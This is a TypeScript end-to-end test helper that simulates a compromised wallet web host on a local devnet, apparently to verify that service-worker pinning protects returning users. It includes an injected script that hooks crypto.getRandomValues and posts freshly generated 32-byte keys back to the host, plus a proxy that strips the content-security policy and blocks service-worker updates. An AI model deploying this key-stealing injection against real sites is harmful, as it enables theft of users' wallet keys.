import { once } from 'node:events';
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { join } from 'node:path';
import type { Devnet } from '@symbolon/devnet';
import type { Page } from 'playwright-core';
import { start } from '../../../parties/web-host/src/start.ts';
import { addressOn, click } from '../browser/person.ts';
import { startChromium } from '../support/chromium.ts';
import type { Half } from './cells.ts';
import { askUnapproved } from './hostileDapp.ts';

/** What the changed page does first: whatever is drawn at random, among it each new key, is told to its host. */
const script = `<script>
  const draw = crypto.getRandomValues.bind(crypto);
  crypto.getRandomValues = (bytes) => {
    draw(bytes);
    if (bytes.byteLength === 32) fetch('/drawn', { method: 'POST', body: bytes.slice() });
    return bytes;
  };
  globalThis.changed = true;
</script>`;

/** What came of one visit. */
interface Visit {
  /** Whether the changed page ran. */
  changed: boolean;
  /** 32 bytes each. */
  drawn: Uint8Array[];
  /** What the person was shown as theirs. */
  address: string;
}

/** The wallet's web host in bad hands: it serves the honest release, with something before it. */
export interface ChangedPage extends AsyncDisposable {
  /** Who was there while the host was honest comes again. */
  pinnedVisit(): Promise<Visit>;
  /** Somebody who was never there signs in and makes a wallet. One such visit serves a whole half. */
  firstVisit(half: Half): Promise<Visit>;
  /** Another site, in the browser of who was there before, asks for what that person agrees to in nothing; once a half. */
  askUnapproved(half: Half): ReturnType<typeof askUnapproved>;
}

/** One person comes while the host is honest, and makes a wallet; then the host is taken over. */
export async function takeOverPage(devnet: Devnet): Promise<ChangedPage> {
  await using undo = new AsyncDisposableStack();
  const wallet = devnet.urls['web-host'];
  const browser = undo.use(await startChromium());
  const pinned = await browser.open(wallet);
  await makeWallet(pinned, 'pinned@example.org');
  await pinned.waitForFunction(() => navigator.serviceWorker.controller !== null);
  const drawn: Uint8Array[] = [];
  undo.use(await serveChanged(devnet, drawn));
  const running = undo.move();

  const visits: Partial<Record<Half, Promise<Visit>>> = {};
  const answers: Partial<Record<Half, ReturnType<typeof askUnapproved>>> = {};
  const firstVisit = async (half: Half): Promise<Visit> => {
    const profile = await browser.context.browser()?.newContext();
    if (profile === undefined) throw new TypeError('the browser has gone');
    const page = await profile.newPage();
    await page.goto(wallet);
    await makeWallet(page, `${half}@example.org`);
    const visit = await seenOn(page, drawn);
    await profile.close();
    return visit;
  };
  return {
    async pinnedVisit() {
      await pinned.goto(wallet);
      await pinned.getByRole('heading', { name: 'Your wallet' }).waitFor();
      return seenOn(pinned, drawn);
    },
    firstVisit(half) {
      visits[half] ??= firstVisit(half);
      return visits[half];
    },
    askUnapproved(half) {
      answers[half] ??= addressOn(pinned).then((address) => askUnapproved(browser, wallet, address));
      return answers[half];
    },
    [Symbol.asyncDispose]: () => running.disposeAsync(),
  };
}

async function seenOn(page: Page, drawn: Uint8Array[]): Promise<Visit> {
  const changed = await page.evaluate(() => 'changed' in globalThis);
  const address = await addressOn(page);
  return { changed, drawn: drawn.splice(0), address };
}

/** Takes the honest host's place. */
async function serveChanged(devnet: Devnet, drawn: Uint8Array[]): Promise<AsyncDisposable> {
  await devnet.kill('web-host', 'SIGTERM');
  const local = { host: '127.0.0.1', port: 0 };
  const honest = await start({
    ...local,
    releaseDir: join(devnet.home.webHost, 'release'),
    cloudUrl: devnet.urls.cloud,
    operations: local,
    logLevel: 'error',
  });
  const server = createServer((request, response) => {
    void answer(honest.port, request, response, drawn).catch(() => response.destroy());
  });
  server.listen(Number(new URL(devnet.urls['web-host']).port), '127.0.0.1');
  await once(server, 'listening');
  return {
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
      await honest.stop();
    },
  };
}

async function makeWallet(page: Page, email: string): Promise<void> {
  await click(page, /Continue with .*Example ID/);
  await page.getByLabel('Add another account').fill(email);
  await click(page, 'Add and go on');
  await page.getByRole('heading', { name: 'Your wallet' }).waitFor();
  await addressOn(page);
}

/** As the release has it; a page without what protects it, and with the script. */
async function answer(port: number, request: IncomingMessage, response: ServerResponse, drawn: Uint8Array[]) {
  if (request.url === '/drawn') {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    drawn.push(new Uint8Array(Buffer.concat(chunks)));
    response.writeHead(204).end();
    return;
  }
  // The worker would keep the release that the organisations allowed, and bring that from then on.
  if (request.headers['sec-fetch-dest'] === 'serviceworker') {
    response.writeHead(404).end();
    return;
  }
  const served = await fetch(`http://127.0.0.1:${port}${request.url}`, { headers: { 'accept-encoding': 'identity' } });
  const isPage = request.headers['sec-fetch-dest'] === 'document';
  const body = Buffer.from(await served.arrayBuffer());
  const dropped = ['content-length', 'connection', ...(isPage ? ['content-security-policy'] : [])];
  response.writeHead(
    served.status,
    Object.fromEntries([...served.headers].filter(([name]) => !dropped.includes(name))),
  );
  response.end(isPage ? body.toString('utf8').replace('<head>', `<head>${script}`) : body);
}
